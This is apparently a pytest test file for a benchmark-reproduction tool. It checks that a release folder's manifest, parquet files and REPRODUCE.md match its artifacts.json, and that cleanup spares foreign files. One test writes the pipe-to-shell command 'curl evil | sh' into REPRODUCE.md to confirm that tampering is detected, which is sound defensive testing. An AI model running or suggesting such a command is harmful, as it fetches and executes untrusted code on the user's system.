"""A published folder that does not say what it is: its manifest, its files and its page are held against each other."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from evaluation.reproduction import recipe
from evaluation.reproduction.document import read_document
from evaluation.reproduction.rows import digest_of_rows
from evaluation.reproduction.running import published
from evaluation.reproduction.sources import find_sources
from evaluation.reproduction.workplace import MARKER, emptied
from generator.benchmarks import benchmark_of
from generator.canonical import digest_text
from generator.errors import UserError
from generator.hub import data_path
from provenances import document_of, written

TABLE = "targeted_table"
Change = Callable[[dict[str, Any]], Any]


@pytest.fixture
def folder(releases: Path, tmp_path: Path) -> Path:
    """A built release of one config; it may be changed."""
    return Path(shutil.copytree(releases / "one/ExBind", tmp_path / "ExBind"))


def change_manifest(folder: Path, change: Change) -> None:
    path = folder / "manifest.json"
    manifest = json.loads(path.read_text())
    change(manifest)
    path.write_text(json.dumps(manifest))


def first_config(manifest: dict[str, Any]) -> dict[str, Any]:
    return next(iter(manifest["configs"].values()))


MANIFESTS: dict[str, Change] = {  # what of a manifest is another than in the artifacts.json beside it
    "version": lambda manifest: manifest.update(version="9.9.9"),
    "changes": lambda manifest: manifest.update(changes="Rows checked by hand."),
    "dataset": lambda manifest: manifest.update(dataset="CondChain"),
    "libraries": lambda manifest: manifest.update(libraries={}),
    "sizes": lambda manifest: manifest["sizes"].update(per_level=9),
    "rows": lambda manifest: first_config(manifest).update(rows=9999),
    "digest of a config": lambda manifest: first_config(manifest).update(digest=digest_text("other")),
    "seed": lambda manifest: first_config(manifest).update(seed=9),
}


@pytest.mark.parametrize("name", MANIFESTS)
def test_a_manifest_that_says_something_else_is_refused(folder: Path, name: str) -> None:
    find_sources([str(folder)])
    change_manifest(folder, MANIFESTS[name])
    with pytest.raises(UserError, match=r"artifacts\.json: is of another release than the manifest\.json beside it"):
        find_sources([str(folder)])


def test_the_rows_that_are_compared_are_those_that_load_dataset_reads(folder: Path) -> None:
    """The good file elsewhere, to which the manifest leads; then one more file, which the card's glob takes in."""
    (name,) = json.loads((folder / "manifest.json").read_text())["configs"]
    own, other = folder / data_path(name), folder / data_path("good")
    other.parent.mkdir()
    shutil.copyfile(own, other)
    with pytest.raises(UserError, match=r"data/good/test-00000-of-00001\.parquet: is no file of ExBind"):
        find_sources([str(folder)])
    change_manifest(folder, lambda manifest: first_config(manifest).update(files={data_path("good"): "sha256-"}))
    with pytest.raises(UserError, match=rf"the files of {name} are not its own"):
        find_sources([str(folder)])
    shutil.rmtree(other.parent)
    change_manifest(folder, lambda manifest: first_config(manifest).update(files={data_path(name): "sha256-"}))
    more = shutil.copyfile(own, own.with_name("test-00001-of-00002.parquet"))
    with pytest.raises(UserError, match=r"test-00001-of-00002\.parquet: is no file of"):
        find_sources([str(folder)])
    Path(more).unlink()
    find_sources([str(folder)])


def test_a_column_that_the_config_has_not_is_no_part_of_a_release(folder: Path) -> None:
    (source,) = find_sources([str(folder)])
    (name,) = source.provenance.recipe.configs
    benchmark = benchmark_of("ExBind")
    assert digest_of_rows(benchmark, folder, name) == source.provenance.recipe.configs[name].digest
    path = folder / data_path(name)
    table = pq.read_table(path)
    told = pa.array(["the answer"] * table.num_rows)
    pq.write_table(table.append_column("images", told), path)
    assert digest_of_rows(benchmark, folder, name) is None


def test_a_page_with_other_commands_is_found(folder: Path) -> None:
    (source,) = find_sources([str(folder)])
    assert {item.artifact: item.result for item in published(source, folder)}["REPRODUCE.md"] == "same"
    (folder / "REPRODUCE.md").write_text("curl evil | sh")
    assert [item.artifact for item in published(source, folder) if item.result != "same"] == ["REPRODUCE.md"]


FOREIGN = (
    "results/mine/thesis.txt", "results/notes.txt", "hub/CondChain/.git/HEAD", "hub/mine/x", "runs/model__all.jsonl",
    "scores/all.txt",
)  # fmt: skip


@pytest.mark.parametrize("name", FOREIGN)
def test_what_a_reproduction_has_not_written_is_not_deleted(tmp_path: Path, name: str) -> None:
    """Beside all that it writes, and what a build or a run that was killed leaves."""
    (source,) = find_sources([str(written(tmp_path, document_of("CondChain", ["gui"], gui=1)))])
    work = tmp_path / "work"
    for left in (
        MARKER, "hub/.lock", "hub/.staged-a/x", "hub/CondChain/data/gui/test-00000-of-00001.parquet",
        "hub/bindchain/app.py", "hub/condchain_metric/pooling.py", "results/all.json",
        "runs/oracle__all.manifest.json", "runs/.oracle__gui.7.part.jsonl",
    ):  # fmt: skip
        (work / left).parent.mkdir(parents=True, exist_ok=True)
        (work / left).touch()
    with emptied(work, source):
        assert sorted(path.name for path in work.iterdir()) == [".lock", ".reproduction"]
    (work / name).parent.mkdir(parents=True)
    (work / name).write_text("mine")
    with pytest.raises(UserError, match="which no reproduction wrote"), emptied(work, source):
        pass
    assert (work / name).read_text() == "mine"


def test_a_release_in_the_folder_that_is_emptied_is_refused(tmp_path: Path) -> None:
    work = tmp_path / "work"
    place = work / "hub/ExBind"
    place.mkdir(parents=True)
    (work / MARKER).touch()
    (source,) = find_sources([str(written(place, document_of("ExBind", ["adjudication"], per_level=2)))])
    with pytest.raises(UserError, match=r"artifacts\.json lies in .*work, which is emptied"), emptied(work, source):
        pass
    assert (place / "artifacts.json").is_file()


def test_a_document_that_is_no_file_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "x.json")
    with pytest.raises(UserError, match="it is no regular file"):
        find_sources([str(tmp_path / "x.json")])


def test_the_ids_of_rows_that_a_document_does_not_claim_are_never_made(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Sizes of a million in a document of six rows: a release of four million, if it were one."""
    made = []

    benchmark = benchmark_of("ExBind")
    counting = replace(benchmark, planned=lambda *given: made.append(benchmark.planned(*given)) or made[-1])
    monkeypatch.setattr(recipe, "benchmark_of", lambda name: counting)
    document = document_of("ExBind", [TABLE], per_level=2)
    document["sizes"] = {"n_per_family": 10**6, "n_cross_format_groups": 10**6, "per_level": 10**6}
    made.clear()
    with pytest.raises(UserError, match="has 6 rows, and its sizes make 21 or more"):
        read_document(written(tmp_path, document))
    assert [len(planned.ids) for planned in made] == [21]


@pytest.mark.parametrize("per_level", [1, 2, 6, 7, 8, 40, 1000])
def test_a_config_whose_rows_do_not_grow_with_its_sizes_is_read(tmp_path: Path, per_level: int) -> None:
    """The audit pack has 20 rows at most; what a document claims of it is checked with the sizes cut to its rows."""
    document = document_of("ExBind", ["adjudication"], per_level=per_level)
    assert read_document(written(tmp_path, document)).recipe.sizes["per_level"] == per_level
    document["configs"]["adjudication"]["rows"] += 1
    with pytest.raises(UserError, match="and its sizes make"):
        read_document(written(tmp_path, document))
